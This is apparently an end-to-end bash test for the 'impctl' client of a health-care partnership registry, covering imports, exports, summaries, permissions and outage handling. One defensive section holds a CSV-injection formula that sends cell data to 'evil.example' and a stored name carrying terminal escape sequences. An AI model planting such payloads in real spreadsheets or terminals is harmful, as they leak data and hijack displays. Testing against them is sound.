#!/usr/bin/env bash
# impctl end to end: real registry, activity and gateway binaries on free loopback ports, a fresh
# database per service on the test MariaDB ($IMP_TEST_DB_SOCKET), and the real impctl binary
# talking to the gateway with a bearer token.
# Args: BUILD_DIR SOURCE_DIR
set -euo pipefail
build=$1 src=$2
impctl="$build/tools/impctl/impctl"
py=/usr/bin/python3
work=$(mktemp -d /tmp/imp-impctl.XXXXXX)
pids=()
suffix=$(openssl rand -hex 4)
cleanup() {
  for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done
  wait 2>/dev/null || true
  for db in "reg_$suffix" "act_$suffix"; do
    mariadb --no-defaults --socket="$IMP_TEST_DB_SOCKET" -u"$(id -un)" -e "DROP DATABASE IF EXISTS $db; DROP USER IF EXISTS '$db'@'localhost', '$db'@'127.0.0.1', '${db}_migrate'@'localhost', '${db}_migrate'@'127.0.0.1'" || true
  done
  rm -rf "$work"
}
trap cleanup EXIT
fail() { echo "FAIL: $*" >&2; exit 1; }
free_port() { $py "$src/tests/support/free_port.py" "$@"; }  # N distinct, below the ephemeral range
# run EXPECTED_RC impctl-args...: stdout to $work/out, stderr to $work/err, checks the exit code.
run() {
  local want=$1 rc=0
  shift
  "$impctl" "$@" >"$work/out" 2>"$work/err" || rc=$?
  [ "$rc" = "$want" ] || fail "impctl $* exited $rc, expected $want; stdout: $(head -c 2000 "$work/out"); stderr: $(head -c 2000 "$work/err")"
}
out_has() { grep -qF -- "$1" "$work/out" || fail "stdout lacks '$1': $(head -c 2000 "$work/out")"; }
err_has() { grep -qF -- "$1" "$work/err" || fail "stderr lacks '$1': $(head -c 2000 "$work/err")"; }
json_ok() { $py -c 'import json,sys; json.load(open(sys.argv[1]))' "$work/out" || fail "stdout is not one JSON document: $(head -c 2000 "$work/out")"; }
# Data rows of a CSV file, one per line with embedded line breaks escaped, sorted. The activity
# service keeps partner_institutions as a set (returned sorted), so that cell is compared as one.
rows() {
  $py - "$1" <<'PY'
import csv, sys
table = list(csv.reader(open(sys.argv[1], encoding="utf-8")))
sets = [i for i, c in enumerate(table[0]) if c == "partner_institutions"]
for r in table[1:]:
    for i in sets:
        r[i] = "|".join(sorted(r[i].split("|")))
print("\n".join(sorted(repr(r) for r in table[1:])))
PY
}

"$src/deploy/provision-db.sh" "$IMP_TEST_DB_SOCKET" "reg_$suffix" pw1 mpw1
"$src/deploy/provision-db.sh" "$IMP_TEST_DB_SOCKET" "act_$suffix" pw2 mpw2
ports=$(free_port 3); read -r RP AP GP <<<"$ports"
admin=admin-$suffix viewer=viewer-$suffix
{
  echo "$(printf %s "$admin" | sha256sum | cut -d' ' -f1) admin e2e-admin"
  echo "$(printf %s "$viewer" | sha256sum | cut -d' ' -f1) viewer e2e-viewer"
} >"$work/tokens.txt"
export IMP_LOG_LEVEL=warning
IMP_DB_PASSWORD=pw1 IMP_DB_MIGRATION_PASSWORD=mpw1 "$build/registry-service/registry_service" --port="$RP" --db_socket="$IMP_TEST_DB_SOCKET" \
  --db_user="reg_$suffix" --db_migration_user="reg_${suffix}_migrate" --db_name="reg_$suffix" 2>"$work/registry.log" & pids+=($!)
IMP_DB_PASSWORD=pw2 IMP_DB_MIGRATION_PASSWORD=mpw2 "$build/activity-service/activity_service" --port="$AP" --db_socket="$IMP_TEST_DB_SOCKET" \
  --db_user="act_$suffix" --db_migration_user="act_${suffix}_migrate" --db_name="act_$suffix" --registry_target="127.0.0.1:$RP" 2>"$work/activity.log" & pids+=($!)
"$build/gateway/gateway" --port="$GP" --tokens_file="$work/tokens.txt" --registry_target="127.0.0.1:$RP" \
  --activity_target="127.0.0.1:$AP" 2>"$work/gateway.log" & pids+=($!)
for p in "$RP" "$AP" "$GP"; do "$impctl" health --target="127.0.0.1:$p" --wait_seconds=30 >/dev/null || fail "port $p not serving"; done

unset IMP_TOKEN IMP_TOKEN_FILE
export IMP_TARGET="127.0.0.1:$GP"
demo="$src/deploy/demo"

# --- Who am I, and where the token comes from -------------------------------------------------
run 7 whoami
err_has "UNAUTHENTICATED"
printf '  %s\n\n' "$admin" >"$work/admin.token"   # whitespace around the token is ignored
printf '%s' "$viewer" >"$work/viewer.token"
export IMP_TOKEN_FILE="$work/admin.token"
run 0 whoami
out_has "e2e-admin"
run 0 whoami --json
json_ok
grep -q '"role": "ROLE_ADMIN"' "$work/out" || fail "whoami --json: $(cat "$work/out")"
IMP_TOKEN="$admin" run 0 whoami --token_file="$work/viewer.token"   # the flag beats the environment
out_has "e2e-viewer"
unset IMP_TOKEN_FILE
export IMP_TOKEN="$admin"

# --- Institutions and agreements, row by row --------------------------------------------------
run 0 import institutions "$demo/institutions.csv"
out_has "imported 36 of 36 rows (0 failed)"
run 0 import agreements "$demo/agreements.csv" --json
json_ok
$py - "$work/out" <<'PY' || fail "agreements --json report: $(cat "$work/out")"
import json, sys
d = json.load(open(sys.argv[1]))
assert (d["kind"], d["rows"], d["imported"], d["failed"], d["errors"]) == ("agreements", 11, 11, 0, []), d
PY
err_has "imported 11 of 11 rows (0 failed)"   # with --json the line goes to stderr
# The same file again: the same request ids, so the service replays and creates nothing twice.
run 0 import institutions "$demo/institutions.csv"
out_has "imported 36 of 36 rows (0 failed)"
# On a terminal (script(1) provides one) progress is a bar redrawn in place on stderr.
script -qec "$impctl import institutions $demo/institutions.csv" /dev/null >"$work/tty" </dev/null
grep -q $'\r''institutions \[#*\.*\]' "$work/tty" || fail "no progress bar on a terminal: $(head -c 300 "$work/tty" | od -c | head)"
grep -q "100% 36/36" "$work/tty" || fail "progress bar does not finish: $(tail -c 300 "$work/tty")"
# Other request ids: every row exists already; reported as such, not as a failure...
run 0 import institutions "$demo/institutions.csv" --request_id=again
out_has "imported 0 of 36 rows (0 failed, 36 already there)"
# ...unless --strict: then every row is an error, and all of them ALREADY_EXISTS -> 6.
run 6 import institutions "$demo/institutions.csv" --request_id=strict --strict --errors_csv="$work/strict.csv"
out_has "imported 0 of 36 rows (36 failed)"
grep -q "^line 2: " "$work/err" || fail "strict report: $(head "$work/err")"
[ "$(wc -l <"$work/strict.csv")" = 37 ] || fail "strict errors csv: $(head "$work/strict.csv")"
# A new id under a name another institution has is a conflict, not "already there".
printf '%s\n%s\n' "$(head -1 "$demo/institutions.csv")" 'okhmatdyt-again,"National Children'"'"'s Specialized Hospital ""OKHMATDYT""",,,HOSPITAL,UA,UA-30,Kyiv,,' >"$work/dup.csv"
run 6 import institutions "$work/dup.csv" --json
err_has "line 2: institution: "
err_has "already exists as institutions/okhmatdyt"
grep -q '"error_reason": *"RESOURCE_EXISTS"' "$work/out" || fail "error_reason in the JSON report: $(cat "$work/out")"
err_has "imported 0 of 1 rows (1 failed)"
# A viewer may not create: every row denied -> 7.
printf '%s\n%s\n' "$(head -1 "$demo/institutions.csv")" 'viewer-made,Viewer Hospital,,,HOSPITAL,PL,,,,' >"$work/one.csv"
IMP_TOKEN="$viewer" run 7 import institutions "$work/one.csv"
err_has "line 2: "
out_has "imported 0 of 1 rows (1 failed)"

# Agreements in later lifecycle states are created then moved on; a re-run moves nothing twice.
$py - "$demo/agreements.csv" "$work/lifecycle.csv" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8")))
header, base = rows[0], rows[1]          # base: an ACTIVE, signed agreement
out = [header]
for state, signed in (("SUSPENDED", "2024-03-01"), ("EXPIRED", "2024-03-02"),
                      ("TERMINATED", "2024-03-03"), ("TERMINATED", "")):
    r = list(base)
    r[0] = f"lifecycle-{state.lower()}-{'signed' if signed else 'unsigned'}"
    r[1] = f"Lifecycle check, {state} ({'signed' if signed else 'never signed'})"
    r[3], r[5] = state, signed
    out.append(r)
csv.writer(open(sys.argv[2], "w", encoding="utf-8", newline=""), lineterminator="\n").writerows(out)
PY
run 0 import agreements "$work/lifecycle.csv" --request_id=lifecycle
out_has "imported 4 of 4 rows (0 failed)"
run 0 import agreements "$work/lifecycle.csv" --request_id=lifecycle
out_has "imported 4 of 4 rows (0 failed)"
run 0 list agreements --json --filter='state != "ACTIVE"'
$py - "$work/out" <<'PY' || fail "lifecycle states: $(cat "$work/out")"
import json, sys
got = {a["name"]: a["state"] for a in json.load(open(sys.argv[1]))["agreements"]}
want = {"agreements/lifecycle-suspended-signed": "STATE_SUSPENDED",
        "agreements/lifecycle-expired-signed": "STATE_EXPIRED",
        "agreements/lifecycle-terminated-signed": "STATE_TERMINATED",
        "agreements/lifecycle-terminated-unsigned": "STATE_TERMINATED",
        "agreements/volyn-rch-uh-sussex-2023": "STATE_PROPOSED"}
assert got == want, got
PY

# --- Activities with bad rows -----------------------------------------------------------------
# Line 3: a host the registry does not know (found by the service); line 5: a date that does
# not exist, line 7: a participants cell without a headcount, line 9: an unknown direction
# (found by impctl before sending).
$py - "$demo/activities.csv" "$work/bad.csv" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8")))[:20]
rows[2][4] = "no-such-hospital"
rows[4][6] = "2024-13-40"
assert rows[6][15], rows[6]
rows[6][15] = rows[6][15].split("|")[0].rsplit(":", 1)[0]
rows[8][11] = "SIDEWAYS"
csv.writer(open(sys.argv[2], "w", encoding="utf-8", newline=""), lineterminator="\n").writerows(rows)
PY
expect_bad_rows() {
  grep -q "^line 3: activity.host_institution: institutions/no-such-hospital does not exist" "$work/err" || fail "line 3 report: $(cat "$work/err")"
  grep -q "^line 5: start_date: 2024-13-40 is not a complete calendar date" "$work/err" || fail "line 5 report: $(cat "$work/err")"
  grep -q "^line 7: participants: '[a-z-]*:[A-Z_]*' is not institution_id:PROFESSION:headcount" "$work/err" || fail "line 7 report: $(cat "$work/err")"
  grep -q "^line 9: direction: 'SIDEWAYS' is not one of TO_UKRAINE" "$work/err" || fail "line 9 report: $(cat "$work/err")"
}
# All or nothing (the default): nothing applied, and still every bad row reported in one run.
run 4 import activities "$work/bad.csv"
expect_bad_rows
out_has "imported 0 of 19 rows (4 failed)"
err_has "nothing was applied"
run 0 list activities --json
$py -c 'import json,sys; d=json.load(open(sys.argv[1])); assert not d["activities"], d' "$work/out" || fail "all-or-nothing applied rows"
# Best effort: the 15 good rows go in; the report is also written as CSV.
run 4 import activities "$work/bad.csv" --mode=best_effort --errors_csv="$work/errors.csv"
expect_bad_rows
out_has "imported 15 of 19 rows (4 failed)"
$py - "$work/errors.csv" <<'PY' || fail "errors csv: $(cat "$work/errors.csv")"
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8")))
assert rows[0] == ["line", "field", "reason"], rows[0]
assert [(r[0], r[1]) for r in rows[1:]] == [("3", "activity.host_institution"), ("5", "start_date"),
                                             ("7", "participants"), ("9", "direction")], rows
PY
# The whole file, all or nothing: rows already there are row errors, nothing else applied.
run 4 import activities "$demo/activities.csv"
out_has "imported 0 of 91 rows ("
err_has "already exists"
# Best effort imports the rest; the same call again is a replay that applies nothing.
run 4 import activities "$demo/activities.csv" --mode=best_effort --request_id=full
out_has "imported 76 of 91 rows (15 failed)"
run 4 import activities "$demo/activities.csv" --mode=best_effort --request_id=full --json
json_ok
err_has "applied before"
grep -q '"replayed": true' "$work/out" || fail "replay not in JSON: $(cat "$work/out")"

# --- Export -> import round trip --------------------------------------------------------------
for kind in institutions agreements activities; do
  run 0 export "$kind" --output="$work/$kind.csv" --page_size=7   # several pages
  err_has "exported"
done
cat "$demo/agreements.csv" <(tail -n +2 "$work/lifecycle.csv") >"$work/agreements-in.csv"
diff <(rows "$demo/institutions.csv") <(rows "$work/institutions.csv") >"$work/diff" || fail "institutions round trip: $(head "$work/diff")"
diff <(rows "$work/agreements-in.csv") <(rows "$work/agreements.csv") >"$work/diff" || fail "agreements round trip: $(head "$work/diff")"
diff <(rows "$demo/activities.csv") <(rows "$work/activities.csv") >"$work/diff" || fail "activities round trip: $(head "$work/diff")"
run 0 export institutions   # to stdout
diff <(rows "$demo/institutions.csv") <(rows "$work/out") >/dev/null || fail "export to stdout"
# Exported in creation order, the institutions file is the demo file byte for byte.
cmp -s "$demo/institutions.csv" "$work/institutions.csv" || fail "institutions export differs from the demo file"
# The exported files import again (new request ids): everything is already there.
run 0 import institutions "$work/institutions.csv" --request_id=reimport
out_has "imported 0 of 36 rows (0 failed, 36 already there)"
run 0 import agreements "$work/agreements.csv" --request_id=reimport
out_has "imported 0 of 15 rows (0 failed, 15 already there)"
run 0 import activities "$work/activities.csv" --validate_only --request_id=check
out_has "validated 91 rows (0 failed); nothing was applied"

# --- Summary and map --------------------------------------------------------------------------
# The figures against totals computed here from the CSV (an independent implementation).
cat >"$work/figures.py" <<'PY'
import csv, json, sys
rows = list(csv.DictReader(open(sys.argv[1], encoding="utf-8")))
lo, hi = (sys.argv[3], sys.argv[4]) if len(sys.argv) > 4 else ("0000", "9999")
rows = [r for r in rows if lo <= r["start_date"] <= hi]
n = lambda v: int(v) if v else 0
groups = [p.split(":") for r in rows if r["kind"] in ("TRAINING", "EVENT") for p in r["participants"].split("|") if p]
want = {
    "trainees": sum(int(g[2]) for g in groups),
    "trainee_doctors": sum(int(g[2]) for g in groups if g[1] == "DOCTOR"),
    "operations": sum(n(r["operations"]) for r in rows if r["kind"] == "OPERATION"),
    "patients_helped": sum(n(r["patients"]) for r in rows if r["kind"] in ("OPERATION", "TELEMEDICINE")),
    "visits": sum(1 for r in rows if r["kind"] == "VISIT"),
    "consultations": sum(n(r["consultations"]) for r in rows if r["kind"] == "TELEMEDICINE"),
}
if sys.argv[2] == "-":
    print(json.dumps(want))
    sys.exit(0)
got = json.load(open(sys.argv[2]))
for key, value in want.items():
    if int(got[key]) != value:
        sys.exit(f"FAIL: summary {key} = {got[key]}, computed from the CSV {value}")
if got["missing_sources"]:
    sys.exit(f"FAIL: unexpected partial answer {got['missing_sources']}")
PY
run 0 summary --json
json_ok
$py "$work/figures.py" "$demo/activities.csv" "$work/out" || fail "summary figures"
run 0 summary --json --from=2024-01-01 --to=2024-12-31
$py "$work/figures.py" "$demo/activities.csv" "$work/out" 2024-01-01 2024-12-31 || fail "summary figures for 2024"
# The table shows the same figures.
run 0 summary
$py - "$work/out" "$($py "$work/figures.py" "$demo/activities.csv" -)" <<'PY' || fail "summary table: $(cat "$work/out")"
import json, re, sys
table = open(sys.argv[1], encoding="utf-8").read()
want = json.loads(sys.argv[2])
labels = {"joint operations": "operations", "of which doctors": "trainee_doctors",
          "telemedical consultations": "consultations", "international visits": "visits",
          "health workers trained (trainings, events)": "trainees",
          "patients helped (operations, telemedicine)": "patients_helped"}
for label, key in labels.items():
    m = re.search(r"^\s+" + re.escape(label) + r"\s+(\d+)$", table, re.M)
    assert m and int(m.group(1)) == want[key], (label, m and m.group(1), want[key])
assert "PARTIAL" not in table
PY
run 0 map
out_has "COUNTRY"
grep -qE "^  FR +[0-9]+ +[0-9]+$" "$work/out" || fail "map table: $(cat "$work/out")"
run 0 map --json
$py -c 'import json,sys; d=json.load(open(sys.argv[1])); assert d["countries"] and d["oblasts"] and not d["missing_sources"], d' "$work/out" || fail "map json"

# --- Projects and framework members in the summary -------------------------------------------
# The demo projects (EUR 35,000,000 indicative, identification; 30 machines planned, none
# delivered, implementation) and the MoH-GIZ memorandum's 17 members declared, none named.
for project in modular-care-centres mammography-machines; do
  run 0 create project "$demo/projects/$project.json" "$project"
done
echo '{"declared_member_count": 17}' >"$work/declared.json"
run 0 update agreement moh-ua-giz-2025 "$work/declared.json" --update_mask=declared_member_count
run 0 summary
grep -qE "^Projects: 2$" "$work/out" || fail "projects line: $(cat "$work/out")"
grep -qE "^  IDENTIFICATION +1$" "$work/out" || fail "projects by status: $(cat "$work/out")"
grep -qE "^  IMPLEMENTATION +1$" "$work/out" || fail "projects by status: $(cat "$work/out")"
grep -qE "^  EUR +35000000 +0 +0$" "$work/out" || fail "money per currency: $(cat "$work/out")"
grep -qE "^  machine +1 +30 +0$" "$work/out" || fail "deliverables per unit: $(cat "$work/out")"
grep -qE "^  declared by frameworks, not yet named +17$" "$work/out" || fail "declared members: $(cat "$work/out")"
grep -qE "^  agreements/moh-ua-giz-2025 .* 17 +0 +17$" "$work/out" || fail "framework row: $(cat "$work/out")"
out_has "(+17 declared by Memorandum between the Ministry of Health of Ukraine and GIZ (agreements/moh-ua-giz-2025), not yet named;"
run 0 summary --json
$py - "$work/out" <<'PY' || fail "summary --json projects: $(cat "$work/out")"
import json, sys
d = json.load(open(sys.argv[1]))
p, n = d["projects"], d["network"]
assert p["projects"] == "2" and p["budget"] == [{"currency_code": "EUR", "units": "35000000", "nanos": 0}], p
assert n["institutions_declared_unnamed"] == "17", n
assert int(n["institutions_including_declared"]) == int(n["institutions_named"]) + 17, n
PY

# --- Lists: all pages, one JSON document ------------------------------------------------------
run 0 list institutions --json --page_size=5
$py -c 'import json,sys; d=json.load(open(sys.argv[1])); assert len(d["institutions"]) == 36, len(d["institutions"])' "$work/out" || fail "list --json pages"
run 0 list agreements --json --filter='state = "ACTIVE"'
$py -c 'import json,sys; d=json.load(open(sys.argv[1])); assert len(d["agreements"]) == 10, len(d["agreements"])' "$work/out" || fail "list filter"
run 0 list institutions --filter='country = "UA"'
out_has "okhmatdyt"
grep -q "^[0-9]* institutions$" "$work/out" || fail "list count line: $(tail -2 "$work/out")"

# --- Single resources and exit codes ----------------------------------------------------------
run 0 get institution okhmatdyt
json_ok
etag=$($py -c 'import json,sys; print(json.load(open(sys.argv[1]))["etag"])' "$work/out")
echo '{"city": "Kyiv"}' >"$work/city.json"
run 0 update institution okhmatdyt "$work/city.json" --update_mask=city --etag="$etag"
run 6 update institution okhmatdyt "$work/city.json" --update_mask=city --etag="$etag"   # stale
err_has "ABORTED"
err_has "impctl:   reason ETAG_MISMATCH"   # the google.rpc.ErrorInfo, through the gateway
run 5 get institution no-such-thing
err_has "NOT_FOUND"
err_has "impctl:   reason RESOURCE_NOT_FOUND"
run 4 delete institution moh-ukraine   # a party to ACTIVE agreements
err_has "FAILED_PRECONDITION"
echo '{"display_name": "X", "kind": "KIND_HOSPITAL", "country": "XX"}' >"$work/bad.json"
run 4 create institution "$work/bad.json"
err_has "INVALID_ARGUMENT: institution.country"
# The field violation from the error details (google.rpc.BadRequest), not from the message.
err_has "impctl:   field institution.country: "
err_has "impctl:   reason FIELD_INVALID"
IMP_TOKEN=wrong run 7 list institutions
IMP_TOKEN="$viewer" run 7 delete activity "$(sed -n 2p "$demo/activities.csv" | cut -d, -f1)"
err_has "PERMISSION_DENIED"
run 0 delete activity "$(sed -n 2p "$demo/activities.csv" | cut -d, -f1)"
run 0 undelete activity "$(sed -n 2p "$demo/activities.csv" | cut -d, -f1)"
IMP_TARGET=127.0.0.1:1 run 8 list institutions
# Usage errors: 2.
run 2 list institutions --no_such_flag
run 2 list institutions --page_size=many
run 2 frobnicate
run 2 summary --from=2024-02-30
run 2 import activities "$work/no-such-file.csv"
printf 'id,name\nx,y\n' >"$work/wrong-header.csv"
run 2 import institutions "$work/wrong-header.csv"
err_has "line 1: missing display_name"
run 0 --help
out_has "Exit codes:"
out_has "--errors_csv"
out_has "--allow_partial"
out_has "summary/map --allow_partial: a partial answer"

# --- Text that would attack a spreadsheet or a terminal ---------------------------------------
# A formula in a name is stored as written, exported with an apostrophe in front (OWASP CSV
# injection) and read back as written by an import.
formula='=HYPERLINK("http://evil.example/?"&A1,"x")'
$py -c 'import json,sys; print(json.dumps({"display_name": sys.argv[1], "kind": "KIND_HOSPITAL", "country": "FR"}))' "$formula" >"$work/formula.json"
run 0 create institution "$work/formula.json" formula
run 0 export institutions --output="$work/formula-export.csv"
$py - "$work/formula-export.csv" "$formula" <<'PY' >"$work/formula-import.csv" || fail "the formula was exported as it would run"
import csv, sys
table = list(csv.reader(open(sys.argv[1], encoding="utf-8")))
row = [r for r in table[1:] if r[0] == "formula"][0]
assert row[1] == "'" + sys.argv[2], row[1]
for r in table[1:]:
    for cell in r:
        assert not cell or cell[0] not in "=+-@\t\r", cell
row[0] = "formula-copy"
row[table[0].index("country")] = "DE"  # one name per country: the copy goes elsewhere
w = csv.writer(sys.stdout, lineterminator="\n")
w.writerow(table[0]); w.writerow(row)
PY
run 0 import institutions "$work/formula-import.csv"
run 0 get institution formula-copy
$py -c 'import json,sys; got=json.load(open(sys.argv[1]))["display_name"]; assert got == sys.argv[2], got' "$work/out" "$formula" || fail "the import did not read back the formula as written"
# Control characters are refused with the field named...
printf '{"display_name": "Red \\u001b[31mhospital", "kind": "KIND_HOSPITAL", "country": "FR"}' >"$work/escape.json"
run 4 create institution "$work/escape.json" escape
err_has "institution.display_name: control character U+001B"
# ...and a name stored before they were (written into the database here) reaches a terminal as
# visible escapes, never as the sequence itself.
mariadb --no-defaults --socket="$IMP_TEST_DB_SOCKET" -u"$(id -un)" "reg_$suffix" \
  -e "UPDATE institutions SET display_name = CONCAT('Old ', CHAR(27), '[2J', CHAR(27), ']0;owned', CHAR(7)) WHERE id = 'formula'" \
  || fail "could not write the old name"
run 0 list institutions --filter='country = "FR"'
if grep -q $'\x1b\|\x07' "$work/out"; then fail "impctl list wrote control characters to the terminal"; fi
out_has 'Old \x1B[2J\x1B]0;owned\x07'

# --- A file larger than one stream message (1,000 rows each) ----------------------------------
$py - "$demo/activities.csv" "$work/bulk.csv" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8")))
visit = next(r for r in rows[1:] if r[1] == "VISIT")
out = [rows[0]] + [[f"bulk-{i:05d}"] + visit[1:] for i in range(2500)]
out[1234][4] = "not-registered"   # line 1235
csv.writer(open(sys.argv[2], "w", encoding="utf-8", newline=""), lineterminator="\n").writerows(out)
PY
run 4 import activities "$work/bulk.csv" --mode=best_effort
out_has "imported 2499 of 2500 rows (1 failed)"
err_has "line 1235: activity.host_institution: institutions/not-registered does not exist"
run 0 list activities --json --filter='kind = "VISIT"' --page_size=1000
$py -c 'import json,sys; d=json.load(open(sys.argv[1])); n=sum(a["name"].startswith("activities/bulk-") for a in d["activities"]); assert n == 2499, n' "$work/out" || fail "bulk rows listed"

# --- A partial answer is refused unless asked for, and then announced with exit 3 -------------
kill "${pids[1]}"   # the activity service
wait "${pids[1]}" 2>/dev/null || true
# By default the gateway's error: the service named, the usual exit code of UNAVAILABLE, no figure.
run 8 summary
err_has "impctl: UNAVAILABLE: SOURCE_ACTIVITY: "
err_has "impctl:   reason BACKEND_UNAVAILABLE"
err_has "--allow_partial"
[ ! -s "$work/out" ] || fail "a refused summary printed figures: $(head -c 2000 "$work/out")"
run 8 summary --json
[ ! -s "$work/out" ] || fail "a refused summary printed JSON: $(head -c 2000 "$work/out")"
# Asked for: the other figures, announced as partial on stdout and stderr, exit 3.
run 3 summary --allow_partial
out_has "!! PARTIAL ANSWER: no answer from SOURCE_ACTIVITY"
err_has "PARTIAL ANSWER"
grep -qE "^  joint operations +n/a$" "$work/out" || fail "missing figures must read n/a: $(cat "$work/out")"
run 3 summary --json --allow_partial
json_ok
grep -q '"SOURCE_ACTIVITY"' "$work/out" || fail "missing_sources in JSON: $(cat "$work/out")"
# The map draws from the registry alone: complete, exit 0, with or without the flag.
run 0 map
run 0 map --allow_partial
# The registry down too: the map comes from the gateway's copy, complete as of its time (exit 0,
# the time said on stderr); the summary is refused for the activity service, as before.
kill "${pids[0]}"   # the registry
wait "${pids[0]}" 2>/dev/null || true
run 0 map --json
json_ok
err_has "registry figures as of "
$py -c 'import json,sys; d=json.load(open(sys.argv[1])); assert d["freshness"]["registry_stale"] and d["countries"] and not d.get("missing_sources"), d' "$work/out" || fail "stale map json"
run 8 summary
run 8 list activities
err_has "impctl:   reason BACKEND_UNAVAILABLE"   # made by the gateway for its backend
echo "impctl end to end: all checks passed"
